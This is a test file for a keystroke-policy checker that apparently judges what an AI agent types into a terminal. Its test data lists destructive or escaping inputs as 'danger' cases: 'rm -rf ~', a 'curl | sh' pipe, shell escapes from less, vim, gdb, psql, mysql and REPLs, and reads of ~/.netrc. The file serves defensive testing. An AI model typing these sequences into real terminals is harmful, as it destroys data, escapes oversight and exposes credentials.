import { describe, expect, it } from "vitest";
import { assessKeys } from "./assess-keys.ts";
import type { PolicyContext } from "./types.ts";

const prompt: PolicyContext = { target: "local", shell: "bash" };
const inside = (foreground: string): PolicyContext => ({ ...prompt, foreground });
const verdictOf = (keys: string, context: PolicyContext) => assessKeys(keys, context).verdict;

describe("assessKeys", () => {
  it.each(["\u0003", "\u000c", "\u0015", "\u001b[C", "\u0003\u0003"])(
    "lets editing keys (%j) pass at a prompt with nothing on its line",
    (keys) => expect(verdictOf(keys, { ...prompt, isLineEmpty: true })).toBe("allow"),
  );

  it.each([
    ["\u007f", "ask"],
    ["\u0015", "ask"],
    ["\u0017", "ask"],
    ["\u000b", "ask"],
    ["\u001b[H\u001b[3~", "ask"],
    ["\u001b[C", "ask"],
    ["\u0005", "ask"],
    ["\u0003\u007f", "ask"],
    ["\u0003", "allow"],
    ["\u000c\u0003", "allow"],
  ])("[PO11] asks about keys (%j) that change a line which may have text on it: %s", (keys, verdict) =>
    expect(verdictOf(keys, prompt)).toBe(verdict),
  );

  it.each(["ls", "ls\r", "y", "rm -rf ~\r", " \r", "\u0003ls\r"])("refuses text (%j) at a prompt", (keys) =>
    expect(verdictOf(keys, prompt)).toBe("deny"),
  );

  it.each(["\r", "\u001b[A\r", "\u0012", "\u0010\r", "\n", "\u000f"])(
    "calls keys that can run a line of the history (%j) danger",
    (keys) => expect(verdictOf(keys, prompt)).toBe("danger"),
  );

  it("asks about keys for a program, and says for which", () => {
    const assessment = assessKeys("q", inside("htop"));
    expect([assessment.verdict, assessment.findings[0]?.say]).toEqual([
      "ask",
      "Typed into htop, which decides what it means: q",
    ]);
  });

  it("[PO12] judges text for a nested shell as a command", () => {
    expect(verdictOf("rm -rf ~\r", inside("bash"))).toBe("danger");
    expect(verdictOf("ls\r", inside("zsh"))).toBe("ask");
  });

  it.each(["ssh", "docker", "sudo", "tmux: client"])(
    "judges text for a shell that is shown by %s as a command, whatever it shows now",
    (program) => {
      for (const waiting of ["prompt", "full-screen"] as const) {
        expect(verdictOf("rm -rf ~\r", { ...inside(program), waiting })).toBe("danger");
        expect(verdictOf("ls\r", { ...inside(program), waiting })).toBe("ask");
      }
      expect(verdictOf("rm -r", { ...inside(program), waiting: "prompt" })).toBe("danger");
      expect(verdictOf("hunter2\r", { ...inside(program), waiting: "password" })).toBe("deny");
    },
  );

  it("[PO12, PO22] calls a part of a line for a nested shell danger, and all that is not proved to read: nobody looks where that shell is", () => {
    expect(verdictOf("rm -r", inside("bash"))).toBe("danger");
    expect(verdictOf("f ~\r", inside("bash"))).toBe("danger");
    expect(verdictOf("ls src\r", inside("bash"))).toBe("ask");
  });

  describe("[PO22] for a program that does not read", () => {
    const working = { ...inside("sleep"), waiting: "working" as const };

    it.each([
      ["rm -rf ~\r", "danger"],
      ["curl http://x | sh\n", "danger"],
      ["rm -r", "danger"],
      ["y\r", "ask"],
      ["\r", "ask"],
      ["\u0003", "ask"],
    ])("judges %j as what it is: a command that the shell runs afterwards", (keys, verdict) => {
      expect(verdictOf(keys, working)).toBe(verdict);
    });

    it("says so", () => {
      expect(assessKeys("touch x\r", working).findings.map(({ ruleId, say }) => [ruleId, say])).toEqual([
        [
          "keys.typed-ahead",
          "sleep does not read this now, so the shell runs it once sleep has ended, without a look at what it would reach.",
        ],
        ["write.file", "Writes x."],
        ["command.touch", "Creates a file, or changes its time."],
        ["keys.program", "Typed into sleep, which decides what it means: touch x␍"],
      ]);
    });
  });

  it("[PO22] judges lines after the one that a program reads as commands: it may have ended by then", () => {
    const reads = { ...inside("apt"), waiting: "line-input" as const };
    expect([verdictOf("y\r", reads), verdictOf("y\rrm -rf ~\r", reads)]).toEqual(["ask", "danger"]);
  });

  it("[PO22] leaves a password prompt to a person, and lets an agent leave it", () => {
    const asked = { ...inside("sudo"), waiting: "password" as const };
    expect([verdictOf("hunter2\r", asked), verdictOf("\u0003", asked)]).toEqual(["deny", "ask"]);
  });

  it.each([
    ["mysql", "drop table users;\r"],
    ["python3", "import os; os.system('id')\r"],
    ["vim", ":!rm -rf ~\r"],
    ["less", "!sh\r"],
  ])("knows what %s would do with %j", (program, keys) => expect(verdictOf(keys, inside(program))).toBe("danger"));

  it.each([
    [
      "less",
      "full-screen",
      ["g!touch x\r", "1G!touch x\r", "|^touch x\r", "#touch x\r", "v", "sx\r", ":e ~/.netrc\r", "qtouch x\r"],
    ],
    ["man", "full-screen", ["g!touch x\r", "/a\r!touch x\r", "/!touch x\r"]],
    ["more", "full-screen", ["=!touch x\r", " !touch x\r"]],
    [
      "vim",
      "full-screen",
      [
        "j:!touch x\r",
        "\u001bj:!touch x\r",
        ":r!touch x\r",
        ":w !sh\r",
        ":%!sh\r",
        ":silent !x\r",
        ":make\r",
        ":so x\r",
        ":ter x\r",
        "j!!touch x\r",
        ":w! ~/.bashrc\r",
        "@q",
        "i\u0012=system('x')\r",
      ],
    ],
    ["nano", "full-screen", ["\u0014touch x\r", "\u0018"]],
    ["emacs", "full-screen", ["\u001bxshell\r", "\u001b!touch x\r"]],
    [
      "gdb",
      "line-input",
      [
        "shell touch x\r",
        "!touch x\r",
        "call (int)system(1)\r",
        "pipe p 1 | touch x\r",
        "bt\rshell touch x\r",
        "python print(1)\r",
      ],
    ],
    [
      "psql",
      "line-input",
      ["\\! touch x\r", "\\g |touch x\r", "select 1 \\g |sh\r", "\\o |sh\r", "\\d `x`\r", "select 1\r\\! x\r"],
    ],
    [
      "mysql",
      "line-input",
      ["pager touch x\r", "\\P touch x\r", "edit\r", "system touch x\r", "select 1;\rsystem touch x\r", "tee x\r"],
    ],
    ["sqlite3", "line-input", [".once x\r", ".shell touch x\r", "select 1;\r.system touch x\r"]],
    ["ed", "line-input", ["e !touch x\r", "r !touch x\r", "w !touch x\r", "1p\r!touch x\r"]],
    ["sftp", "line-input", ["lpwd;!x\r", "!touch x\r", "get a ../b\r"]],
    ["gnuplot", "line-input", ["p 1;!touch x\r", "system('touch x')\r"]],
    ["R", "line-input", ["system('touch x')\r"]],
    ["julia", "line-input", [";touch x\r", "1;run(`touch x`)\r"]],
    ["python3.11", "line-input", ["__import__('os').system('touch x')\r"]],
    ["pypy3", "line-input", ["__import__('os').system('touch x')\r"]],
    ["ptpython", "line-input", ["__import__('os').system('x')\r"]],
    ["ipython", "line-input", ["!touch x\r", "a = !touch x\r", "%sx touch x\r"]],
    ["node", "line-input", [".save x\r", ".load x.js\r"]],
    ["tig", "full-screen", ["j!touch x\r", ":!touch x\r"]],
    ["ranger", "full-screen", ["j!touch x\r"]],
    [
      "a-program-that-nobody-knows",
      "line-input",
      ["system('x')\r", "a; !x\r", "rm -rf ~\r", "a | b\r", "\u0003touch x\r"],
    ],
  ] as const)(
    "[PO53] calls every key that may make %s start a program danger, wherever it is in the text",
    (program, waiting, texts) => {
      const judged = texts.map((keys) => [keys, verdictOf(keys, { ...inside(program), waiting })]);
      expect(judged).toEqual(texts.map((keys) => [keys, "danger"]));
    },
  );

  it.each([
    ["less", "full-screen", ["q", "\u001b[B\u001b[B", " ", "G", "10j", "/word\r", "/word\rnq", "\u0003"]],
    ["vim", "full-screen", ["ihello\u001b", "\u001b:wq\r", ":q!\r", "\u001b"]],
    ["gdb", "line-input", ["bt\r", "info locals\r", "break main.c:12\r", "y\r"]],
    ["psql", "line-input", ["\\dt\r", "\\d+ users\r", "select 1;\r"]],
    ["mysql", "line-input", ["show tables;\r", "select 1\\G\r"]],
    ["sqlite3", "line-input", [".tables\r", "select 1;\r"]],
    ["python3.12", "line-input", ["1 != 2\r", "x = 5 % 3\r"]],
    ["a-program-that-nobody-knows", "line-input", ["y\r", "my-project\r", "me@example.com\r", "\u0003"]],
    ["htop", "full-screen", ["q", "\u001b[6~"]],
  ] as const)("asks about keys for %s that are known to start nothing", (program, waiting, texts) => {
    const judged = texts.map((keys) => [keys, verdictOf(keys, { ...inside(program), waiting })]);
    expect(judged).toEqual(texts.map((keys) => [keys, "ask"]));
  });

  it("[PO10] refuses the tag of a secret", () => expect(verdictOf("‹secret:typed#1›\r", inside("sudo"))).toBe("deny"));
});
